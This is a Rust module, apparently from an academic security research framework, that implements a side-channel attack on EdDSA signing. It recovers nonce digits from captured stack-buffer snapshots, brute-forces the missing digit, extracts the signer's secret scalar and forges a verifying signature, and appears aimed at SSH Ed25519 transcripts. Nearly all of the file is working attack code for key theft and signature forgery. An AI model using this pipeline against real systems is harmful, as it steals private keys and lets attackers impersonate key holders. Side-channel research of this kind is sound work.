// Copyright (C) 2025 FZI Forschungszentrum Informatik
// SPDX-License-Identifier: Apache-2.0
//! EdDSA key recovery
//!
//! The victim computes the commitment `R` of a signature by a windowed scalar
//! multiplication over the signed radix 8 digits of the nonce. Which table
//! entry is selected in each iteration leaks through changes of a stack buffer
//! captured at fixed points of the main loop. From the nonce and the signature
//! a secret sufficient for forging signatures is extracted.
//!
//! [`recover`] runs the whole pipeline on a captured trace:
//!
//! 1. collect all offsets within the monitored page changing between adjacent
//!    snapshots ([`digits::candidate_offsets`])
//! 2. recover the signed digits at each offset ([`digits::recover_signed`])
//! 3. brute force the unobservable lowest digit against `R`
//!    ([`forge::complete`])
//! 4. extract the secret ([`forge::extract_secret`]) and verify a signature
//!    forged with it ([`forge::forge`])

pub mod digits;
pub mod error;
pub mod forge;
pub mod transcript;


use std::collections::BTreeSet;

use crate::config::EddsaAttack;
use crate::event::FaultEvent;
use crate::scanner::Candidates;

pub use digits::{DIGITS, Digits, Layout};
pub use error::Error;
pub use transcript::Transcript;

/// Message signed with the recovered secret for verification
pub const FORGED_MESSAGE: &[u8] = b"test message";

/// Options for [`recover`]
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Options {
    /// Only consider this offset within the monitored page
    pub specific_offset: Option<usize>,
    /// Known digits of the nonce, for diagnosing a failing recovery
    pub ground_truth: Option<Digits>,
    /// Message to forge a signature for
    pub message: Vec<u8>,
}

impl Default for Options {
    fn default() -> Self {
        Self {
            specific_offset: None,
            ground_truth: None,
            message: FORGED_MESSAGE.to_vec(),
        }
    }
}

impl Options {
    /// Derive the ground truth from the signer's seed
    pub fn with_seed(self, seed: &[u8; 32], signed: &[u8]) -> Self {
        Self {
            ground_truth: Some(expected_digits(seed, signed)),
            ..self
        }
    }
}

/// A recovered key
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Key {
    /// Offset of the buffer the nonce was recovered from
    pub offset: usize,
    /// Signed digits of the nonce
    pub digits: Digits,
    /// The signature's reduced nonce
    pub reduced_nonce: [u8; 32],
    /// Secret scalar, sufficient for signing
    pub secret: [u8; 32],
    /// Public key recomputed from the secret
    pub public_key: [u8; 32],
    /// Message signed with the secret
    pub forged_message: Vec<u8>,
    /// Signature over the forged message
    pub forged_signature: [u8; 64],
}

/// Outcome of a successful recovery
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Report {
    /// All candidates yielding a nonce matching the signature
    pub candidates: Candidates<Digits>,
    pub key: Key,
}

/// Compute the digits a signer with the given seed uses for signing `message`
pub fn expected_digits(seed: &[u8; 32], message: &[u8]) -> Digits {
    digits::window3(&forge::reduced_nonce(seed, message))
}

/// Recover a signing secret from a captured trace
///
/// Events without a snapshot are ignored. Stops at the first candidate
/// yielding a verifying signature. Fails with
/// [`Error::NoCandidateValidated`] if there is none.
pub fn recover(
    attack: &EddsaAttack,
    events: &[FaultEvent],
    options: &Options,
) -> Result<Report, Error> {
    let transcript = &attack.transcript;
    if transcript.signature_type != transcript::SSH_ED25519 {
        log::warn!("Unexpected signature type '{}'", transcript.signature_type);
    }
    let (r, s) = transcript.split_signature()?;
    let public_key = transcript.public_key()?;

    let snapshots: Vec<&[u8]> = events
        .iter()
        .filter_map(|e| e.snapshot.as_ref())
        .map(|s| &s.content[..])
        .collect();
    log::info!(
        "{} of {} events carry snapshots",
        snapshots.len(),
        events.len()
    );
    let layout = Layout::from(attack);
    layout.check(snapshots.len())?;

    let mut offsets = digits::candidate_offsets(&snapshots, &layout);
    log::debug!("Offsets with change: {offsets:03x?}");
    if let Some(offset) = options.specific_offset {
        if !offsets.contains(&offset) {
            log::warn!("No change observed at offset {offset:#05x}");
        }
        log::info!("Restricting search to offset {offset:#05x}");
        log_windows(offset, &snapshots, &layout);
        offsets = BTreeSet::from([offset]);
    }
    let tried = offsets.len();

    let mut candidates = Candidates::new();
    for offset in offsets {
        let Some(mut digits) = digits::recover_signed(offset, &snapshots, &layout) else {
            candidates.discard(offset);
            continue;
        };
        log::debug!("Offset {offset:#05x}: recovered digits {digits:?}");
        if let Some(expected) = options.ground_truth.as_ref() {
            compare(offset, &digits, expected, layout.cycles);
        }
        if forge::complete(&mut digits, &r) {
            candidates.insert(offset, digits);
        } else {
            candidates.discard(offset);
        }
    }
    log::info!("Discarded offsets: {:03x?}", candidates.discarded());
    log::info!("{} of {tried} offsets yield the nonce", candidates.len());

    let key = candidates.iter().find_map(|(offset, digits)| {
        let reduced_nonce = digits::pack(&digits::signed_to_unsigned(digits));
        let Some(secret) =
            forge::extract_secret(&reduced_nonce, &s, &public_key, &transcript.message)
        else {
            log::warn!("Offset {offset:#05x}: nonce is not canonical");
            return None;
        };
        let forged_signature = forge::forge(&secret, &public_key, &options.message);
        if !forge::verify(&public_key, &options.message, &forged_signature) {
            log::warn!("Offset {offset:#05x}: nonce matches but forged signature is invalid");
            return None;
        }
        Some(Key {
            offset,
            digits: *digits,
            reduced_nonce,
            secret: secret.to_bytes(),
            public_key: forge::public_key(&secret),
            forged_message: options.message.clone(),
            forged_signature,
        })
    });

    match key {
        Some(key) => {
            log::info!("Recovered secret at offset {:#05x}", key.offset);
            Ok(Report { candidates, key })
        }
        None => Err(Error::NoCandidateValidated(tried)),
    }
}

fn log_windows(offset: usize, snapshots: &[&[u8]], layout: &Layout) {
    for (i, snapshot) in snapshots.iter().take(layout.snapshots()).enumerate() {
        let cycle = i / layout.accesses_per_cycle;
        if let Some(window) = snapshot.get(offset..offset + layout.window) {
            log::info!("cycle {cycle:02} {}", hex::encode(window));
        }
    }
}

fn compare(offset: usize, digits: &Digits, expected: &Digits, cycles: usize) {
    let mut correct = true;
    for i in 1..cycles {
        if digits[i] != expected[i] {
            log::info!(
                "Offset {offset:#05x}: digit {i} is {} but should be {}",
                digits[i],
                expected[i]
            );
            correct = false;
        }
    }
    if correct {
        log::info!("Offset {offset:#05x}: all observable digits are correct");
    }
}
